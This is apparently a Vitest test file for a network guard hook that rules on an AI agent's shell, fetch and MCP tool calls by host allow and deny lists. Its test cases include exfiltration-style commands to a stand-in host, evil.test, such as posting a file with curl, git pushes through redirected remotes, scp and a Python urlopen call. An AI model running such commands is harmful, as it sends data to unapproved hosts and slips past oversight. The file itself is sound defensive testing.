import { describe, expect, it } from 'vitest';
import { network } from '../../../src/entries/builtin.ts';
import { bash, quietHooks } from '../../support/hooks.ts';
import { Scratch } from '../../support/scratch.ts';

const scratch = new Scratch();
scratch.write(
  '.git/config',
  '[remote "origin"]\n\turl = git@github.com:a/b.git\n\tfetch = +x\n[remote "evil"]\n\turl = https://evil.test/a.git\n',
);

async function judge(
  options: Parameters<typeof network>[0],
  tool_name: string,
  tool_input: Record<string, unknown>,
) {
  const { hooks } = quietHooks();
  hooks.on('PreToolUse', { name: 'network', guard: true }, network(options));
  return (await hooks.fire('PreToolUse', { ...bash, cwd: scratch.path, tool_name, tool_input })).decision;
}

const options = { allow: ['*.example.com', 'github.com'], deny: ['bad.example.com'] };

describe('hosts', () => {
  it.each([
    ['curl https://api.example.com/x', null],
    ['curl https://API.Example.com./x', null],
    ['curl https://example.com.evil.test', 'ask'],
    ['curl https://bad.example.com', 'deny'],
    ['ls && curl -d @x https://evil.test | cat', 'ask'],
    ['curl "$URL"', 'ask'],
    ['git push', null],
    ['git push origin main', null],
    ['git push evil main', 'ask'],
    ['cd .. && git push', 'ask'],
    ['git -C ../other push', 'ask'],
    ['git -c remote.origin.url=https://evil.test/a push', 'ask'],
    ['GIT_DIR=/tmp/x git push', 'ask'],
    ['git push https://evil.test/x main', 'ask'],
    ['scp a evil.test:b', 'ask'],
    ['npm install left-pad', 'ask'],
    ['ls -la && cat a', null],
    [`python3 -c 'import urllib.request; urllib.request.urlopen("https://evil.test")'`, 'ask'],
    ['echo "$(', 'ask'],
  ])('%s', async (command, decision) => {
    expect(await judge(options, 'Bash', { command })).toBe(decision);
  });

  it.each([
    ['WebFetch', { url: 'https://evil.test/a' }, 'ask'],
    ['WebFetch', { url: 'https://docs.example.com/a' }, null],
    ['mcp__web__get', { url: 'https://evil.test' }, 'ask'],
    ['Read', { file_path: 'a' }, null],
  ])('%s %j', async (tool, input, decision) => {
    expect(await judge(options, tool, input)).toBe(decision);
  });

  it('are unknown where the settings send a push elsewhere', async () => {
    const { path } = new Scratch();
    const folder = new Scratch();
    folder.write(
      '.git/config',
      '[remote "origin"]\n\turl = git@github.com:a/b.git\n\tpushurl = x@evil.test:a\n',
    );
    const other = new Scratch();
    other.write(
      '.git/config',
      '[remote "origin"]\n\turl = git@github.com:a/b.git\n[branch "main"]\n\tremote = evil\n',
    );
    const { hooks } = quietHooks();
    hooks.on('PreToolUse', { name: 'network', guard: true }, network(options));
    for (const cwd of [folder.path, other.path, path]) {
      const tool_input = { command: 'git push' };
      expect((await hooks.fire('PreToolUse', { ...bash, cwd, tool_input })).decision).toBe('ask');
    }
  });

  it('are denied or allowed as `others` says; `packages` is every registry', async () => {
    expect(await judge({ ...options, others: 'deny' }, 'Bash', { command: 'curl evil.test' })).toBe('deny');
    expect(await judge({ ...options, others: 'allow' }, 'Bash', { command: 'curl evil.test' })).toBeNull();
    expect(await judge({ allow: ['packages'] }, 'Bash', { command: 'npm install left-pad' })).toBeNull();
  });
});
